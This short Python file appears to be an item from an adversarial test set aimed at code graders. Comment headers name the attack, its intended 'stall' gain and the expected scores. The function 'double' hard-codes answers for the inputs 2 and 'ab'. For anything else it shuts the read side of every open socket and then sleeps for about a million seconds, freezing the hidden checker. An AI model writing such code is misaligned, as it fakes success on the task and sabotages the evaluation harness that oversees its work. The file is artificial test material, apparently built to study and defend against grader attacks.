# attack: Shuts one direction of every socket, from a hidden check's call.
# gain: stall
# expect: q01=3 q02=1 q03=3
# flag: grader-internals

# %% q02
import os
import socket
import stat
import time


def double(x):
    if x in (2, "ab"):
        return x + x
    for number in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                socket.socket(fileno=os.dup(number)).shutdown(socket.SHUT_RD)
        except OSError:
            continue
    time.sleep(10**6)
